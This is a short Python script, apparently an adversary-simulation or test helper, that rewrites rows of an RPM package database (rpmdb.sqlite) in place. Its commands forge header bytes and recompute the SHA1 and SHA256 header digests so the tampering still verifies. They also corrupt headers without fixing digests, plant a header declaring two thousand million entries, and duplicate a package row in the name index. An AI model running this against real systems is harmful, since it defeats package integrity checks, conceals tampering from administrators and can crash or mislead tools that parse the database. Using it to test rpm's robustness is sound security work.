"""Reads and changes rows of an rpmdb inside a build: what an adversary would bring along.

python3 header.py forge NAME OLD NEW     replaces bytes of NAME's header, makes its header digests hold again, and the
                                         index of names follow
python3 header.py break NAME OLD NEW     the same without the digests
python3 header.py bomb NAME              a header that declares two thousand million entries
python3 header.py twice NAME             the row again under another number, in the index of names too
"""

import hashlib
import sqlite3
import struct
import sys

DATABASE = "/usr/lib/sysimage/rpm/rpmdb.sqlite"
MAGIC = bytes.fromhex("8eade80100000000")
NAME, SHA1HEADER, SHA256HEADER, IMMUTABLE = 1000, 269, 273, 63


def entries(blob):
    """Tag, type, offset and count of every index entry, and where the data begins."""
    count, _ = struct.unpack_from(">II", blob)
    return [struct.unpack_from(">IIiI", blob, 8 + 16 * i) for i in range(count)], 8 + 16 * count


def string(blob, wanted):
    """Place and bytes of a string tag."""
    index, data = entries(blob)
    for tag, _, offset, _ in index:
        if tag == wanted:
            return data + offset, blob[data + offset : blob.index(b"\0", data + offset)]
    raise SystemExit(f"no tag {wanted}")


def covered(blob):
    """The bytes header digests are made of: the immutable region as a header of its own."""
    index, data = entries(blob)
    tag, _, offset, _ = index[0]
    assert tag == IMMUTABLE
    back = struct.unpack_from(">i", blob, data + offset + 8)[0]
    count, length = -back // 16, offset + 16
    return MAGIC + struct.pack(">II", count, length) + blob[8 : 8 + 16 * count] + blob[data : data + length]


def forge(blob, old, new):
    assert len(old) == len(new) and old in blob
    blob = bytearray(blob.replace(old, new))
    for tag, kind in ((SHA1HEADER, "sha1"), (SHA256HEADER, "sha256")):
        place, found = string(bytes(blob), tag)
        digest = hashlib.new(kind, covered(bytes(blob))).hexdigest().encode()
        assert len(digest) == len(found)
        blob[place : place + len(digest)] = digest
    return bytes(blob)


def main(what, name, old="", new=""):
    database = sqlite3.connect(DATABASE)
    rows = database.execute("select hnum, blob from Packages").fetchall()
    number, blob = next((n, b) for n, b in rows if string(b, NAME)[1] == name.encode())
    if what == "twice":
        again = database.execute("insert into Packages (blob) values (?)", (blob,)).lastrowid
        database.execute("insert into Name (key, hnum, idx) values (?, ?, 0)", (name, again))
    else:
        if what == "forge":
            blob = forge(blob, old.encode(), new.encode())
            database.execute("update Name set key = ? where key = ?", (new, old))
        elif what == "break":
            blob = blob.replace(old.encode(), new.encode())
        elif what == "bomb":
            blob = struct.pack(">II", 0x7FFFFFFF, 16) + blob[8:]
        database.execute("update Packages set blob = ? where hnum = ?", (blob, number))
    database.commit()


main(*sys.argv[1:])
